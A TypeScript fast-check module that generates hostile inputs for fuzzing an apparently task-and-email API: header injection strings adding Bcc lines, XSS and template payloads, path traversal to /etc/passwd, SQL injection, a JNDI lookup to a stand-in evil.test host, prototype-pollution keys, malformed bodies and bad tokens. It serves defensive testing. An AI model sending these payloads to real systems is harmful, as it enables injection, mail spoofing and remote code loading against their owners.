import { gzipSync } from 'node:zlib';
import fc from 'fast-check';

/** Strings aimed at mail headers: line breaks of every kind, encoded words, folding. */
export const HEADER_PAYLOADS = [
  'x\r\nBcc: victim@evil.test',
  'x\nBcc: victim@evil.test',
  'x\rBcc: victim@evil.test',
  'x\r\n\r\n<p>body injected through a header</p>',
  'x\r\n Bcc: folded@evil.test',
  '=?utf-8?q?=0D=0ABcc:_victim@evil.test?=',
  `=?utf-8?b?${Buffer.from('\r\nBcc: victim@evil.test').toString('base64')}?=`,
  'x\u2028Bcc: victim@evil.test\u2029',
  'x\u0085Bcc: victim@evil.test',
  'x%0d%0aBcc: victim@evil.test',
  'Ünïcödé 🧨 \u202Eevil\u202C \u200B zero-width',
  'tab\there\u000bvertical\u000cform',
  `long ${'word '.repeat(38)}`,
];

/** Strings aimed at mail bodies: markup, event handlers, javascript: links, template syntax. */
export const BODY_PAYLOADS = [
  '<script>hxevil(1)</script>',
  '<img src=x onerror=hxevil(2)>',
  '"><svg onload=hxevil(3)>',
  "'><hx-evil>hxevil(4)</hx-evil>",
  'javascript:hxevil(5)',
  '<a href="javascript:hxevil(6)">click</a>',
  '</title><script>hxevil(7)</script>',
  '{{7*7}} {{{hxevil}}} {{> footer}}',
  '<style>*{display:none}</style>',
  '<!-- hxevil ]]> &amp; &lt;',
  '<iframe src="https://evil.test/hxevil"></iframe>',
];

/** Other strings a parser or a database may choke on. */
export const ODD_STRINGS = [
  '',
  ' ',
  'nul\u0000byte',
  'lone \ud800 surrogate',
  '\ufeffbom',
  '../../etc/passwd',
  "' OR 1=1 --",
  '${jndi:ldap://evil.test/x}',
  '__proto__',
  'a'.repeat(201),
  'b'.repeat(2_001),
];

export const KNOWN_TASKS = [
  'reports.build',
  'tests.execute',
  'tests.collect_results',
  'email_notification_test',
] as const;

const payload = fc.constantFrom(...HEADER_PAYLOADS, ...BODY_PAYLOADS, ...ODD_STRINGS);

export const hostileString: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: payload },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'grapheme', maxLength: 40 }) },
  { weight: 1, arbitrary: fc.tuple(payload, payload).map(([a, b]) => `${a}${b}`) },
  { weight: 1, arbitrary: fc.constantFrom('c'.repeat(100_000), 'd'.repeat(300_000)) },
);

/** Numbers for fields that cost time (stepMs, sleepMs, delay): small valid ones, or invalid ones. */
const cheapNumber = fc.oneof(
  fc.integer({ min: 0, max: 30 }),
  fc.constantFrom<unknown>(-1, 1.5, 2 ** 31, 2 ** 53 + 1, 1e308, -0, '5', null, true, [], {}, 'NaN'),
);

/** Delays: short valid ones (a long one would outlast the test), or invalid ones. */
const cheapDelay = fc.oneof(
  fc.integer({ min: 0, max: 1_000 }),
  fc.constantFrom<unknown>(-1, 1.5, 30 * 24 * 3_600_000 + 1, 1e308, '5', null, true, []),
);

export const hostileValue: fc.Arbitrary<unknown> = fc.letrec((tie) => ({
  value: fc.oneof(
    { depthSize: 'small', withCrossShrink: true },
    hostileString,
    fc.integer(),
    fc.double(),
    fc.boolean(),
    fc.constant(null),
    fc.array(tie('value'), { maxLength: 4 }),
    fc.dictionary(
      fc.oneof(
        hostileString,
        fc.constantFrom('__proto__', 'constructor', 'prototype', 'organizationId', 'userId'),
      ),
      tie('value'),
      {
        maxKeys: 4,
      },
    ),
  ),
})).value;

const maybe = <T>(arbitrary: fc.Arbitrary<T>) => fc.option(arbitrary, { nil: undefined });

function withoutUndefined(record: Record<string, unknown>): Record<string, unknown> {
  return Object.fromEntries(Object.entries(record).filter(([, value]) => value !== undefined));
}

/** Input for one of the known tasks: its own fields with hostile values, plus stray keys. */
export function taskInput(task: string): fc.Arbitrary<unknown> {
  const fields: Record<string, fc.Arbitrary<unknown>> = task === 'reports.build'
    ? {
        report_name: maybe(hostileString),
        rows: maybe(fc.oneof(fc.integer({ min: 1, max: 1_000 }), hostileValue)),
        stepMs: maybe(cheapNumber),
      }
    : task === 'tests.execute'
      ? {
          testId: maybe(hostileString),
          name: maybe(hostileString),
          outcome: maybe(fc.oneof(fc.constantFrom('pass', 'fail'), hostileString)),
          failAttempts: maybe(cheapNumber),
          sleepMs: maybe(cheapNumber),
        }
      : task === 'tests.collect_results'
        ? { test_set_name: maybe(hostileString), test_run_id: maybe(hostileString) }
        : { message: maybe(hostileString) };
  return fc
    .tuple(
      fc.record(fields),
      fc.dictionary(hostileString, hostileValue, { maxKeys: 2 }),
      hostileValue,
      fc.nat(9),
    )
    .map(([own, extra, other, shape]) =>
      shape === 0 ? extra : shape === 1 ? other : { ...extra, ...withoutUndefined(own) },
    );
}

const taskName = fc.oneof(
  { weight: 6, arbitrary: fc.constantFrom<string>(...KNOWN_TASKS) },
  { weight: 2, arbitrary: hostileString },
  {
    weight: 1,
    arbitrary: fc.constantFrom(
      'reports',
      'reports.build.',
      'Reports.Build',
      'tests.execute ',
      '__proto__',
      'toString',
      'constructor',
    ),
  },
);

/** A run submission: a known or unknown task, hostile input and options, and fields the API must ignore. */
export function submission(victim: { organizationId: string; userId: string }): fc.Arbitrary<unknown> {
  return fc
    .tuple(
      taskName,
      fc.nat(3),
      fc.option(
        fc.record(
          {
            delay: cheapDelay,
            priority: fc.oneof(fc.integer(), hostileValue),
            attempts: fc.oneof(fc.integer({ min: -1, max: 30 }), hostileValue),
          },
          { requiredKeys: [] },
        ),
        { nil: undefined },
      ),
      fc.boolean(),
    )
    .chain(([task, _, options, claimsVictim]) =>
      taskInput(task).map((input) =>
        withoutUndefined({
          task,
          input,
          options,
          ...(claimsVictim
            ? { organizationId: victim.organizationId, userId: victim.userId, parentId: victim.userId }
            : {}),
        }),
      ),
    );
}

/** A chord: children (failing ones name themselves in the summary mail) and a callback, all hostile. */
export const flow: fc.Arbitrary<unknown> = fc.oneof(
  {
    weight: 4,
    arbitrary: fc
      .tuple(
        fc.array(fc.tuple(hostileString, fc.constantFrom('pass', 'fail')), { minLength: 1, maxLength: 4 }),
        hostileString,
        maybe(hostileString),
      )
      .map(([children, name, runId]) => ({
        tasks: children.map(([childName, outcome], index) => ({
          task: 'tests.execute',
          input: { testId: `t${index}`, name: childName, outcome },
        })),
        callback: {
          task: 'tests.collect_results',
          input: withoutUndefined({ test_set_name: name, test_run_id: runId }),
        },
      })),
  },
  { weight: 1, arbitrary: hostileValue.map((value) => ({ tasks: value, callback: value })) },
  {
    weight: 1,
    arbitrary: fc.record({
      tasks: fc.array(fc.record({ task: taskName, input: hostileValue }), { maxLength: 3 }),
      callback: fc.record({ task: taskName, input: hostileValue }),
    }),
  },
);

/** Percent-encoding for any string: a lone surrogate becomes U+FFFD (raw bad bytes are sent separately). */
export function encodeText(value: string): string {
  return encodeURIComponent(
    value.replace(/[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/g, '\ufffd'),
  );
}

/** Path segments where a run id, template name or unsubscribe token goes. */
export function pathSegment(known: string[]): fc.Arbitrary<string> {
  return fc.oneof(
    { weight: known.length ? 3 : 0, arbitrary: known.length ? fc.constantFrom(...known) : fc.uuid() },
    { weight: 2, arbitrary: fc.uuid() },
    { weight: 3, arbitrary: hostileString.map((value) => encodeText(value).slice(0, 20_000)) },
    {
      weight: 2,
      arbitrary: fc.constantFrom(
        '%00',
        '%ZZ',
        '%E0%A4%A',
        '..%2F..%2Fmetrics',
        '%2e%2e',
        '%252e',
        'x'.repeat(5_000),
        '%C0%AE',
        '%ED%A0%80',
      ),
    },
  );
}

/** A request body that is not the JSON the route expects: malformed, mislabeled, compressed garbage, too deep. */
export const rawBody: fc.Arbitrary<{ body: string | Buffer; headers: Record<string, string> }> = fc.oneof(
  fc
    .constantFrom(
      '{"task": ',
      '{"task":"reports.build","input":{',
      '{',
      'null',
      '"just a string"',
      '[]',
      '123',
      'tru',
      '{"a":1}}',
      '\u0000',
      '{"task":"a","task":"b"}',
    )
    .map((body) => ({
      body,
      headers: { 'content-type': 'application/json' },
    })),
  fc
    .uint8Array({ maxLength: 200 })
    .map((bytes) => ({ body: Buffer.from(bytes), headers: { 'content-type': 'application/json' } })),
  fc
    .tuple(
      fc.constantFrom(
        'application/json; charset=utf-16',
        'application/json; charset=latin1',
        'application/json; charset=nope',
        'text/plain',
        'application/x-www-form-urlencoded',
        'multipart/form-data; boundary=x',
        'application/xml',
        'application/json, text/html',
        'application/vnd.api+json',
      ),
      fc.constantFrom(
        '{"task":"reports.build","input":{"report_name":"x"}}',
        'task=reports.build&input=x',
        '<xml/>',
        'a&'.repeat(1_500),
      ),
    )
    .map(([type, body]) => ({ body, headers: { 'content-type': type } })),
  fc
    .tuple(fc.constantFrom('gzip', 'deflate', 'br', 'zstd', 'compress', 'identity, gzip'), fc.boolean())
    .map(([encoding, isValid]) => ({
      body:
        isValid && encoding === 'gzip'
          ? gzipSync('{"task":"reports.build","input":{"report_name":"zipped"}}')
          : Buffer.from('definitely not compressed'),
      headers: { 'content-type': 'application/json', 'content-encoding': encoding },
    })),
  fc.integer({ min: 10, max: 120_000 }).map((depth) => ({
    body: `${'['.repeat(depth)}${']'.repeat(depth)}`,
    headers: { 'content-type': 'application/json' },
  })),
  fc.integer({ min: 10, max: 60_000 }).map((depth) => ({
    body: `{"task":"reports.build","input":${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}}`,
    headers: { 'content-type': 'application/json' },
  })),
);

/** Authorization headers that must all be refused (the caller's valid token is added elsewhere). */
export function badAuthorization(tokens: {
  revoked: string;
  expired: string;
  victimHash: string;
}): fc.Arbitrary<string | undefined> {
  return fc.oneof(
    fc.constantFrom(
      undefined,
      '',
      'Bearer',
      'Bearer ',
      `Bearer ${tokens.revoked}`,
      `Bearer ${tokens.expired}`,
      `Bearer ${tokens.victimHash}`,
      `bearer ${tokens.revoked}`,
      `Basic ${Buffer.from(`x:${tokens.revoked}`).toString('base64')}`,
      `Bearer ${tokens.revoked} ${tokens.revoked}`,
      `Bearer ${'A'.repeat(201)}`,
      `Bearer hrld_${'x'.repeat(43)}`,
    ),
    fc.string({ unit: 'grapheme-ascii', maxLength: 80 }).map((value) => `Bearer ${value}`),
  );
}
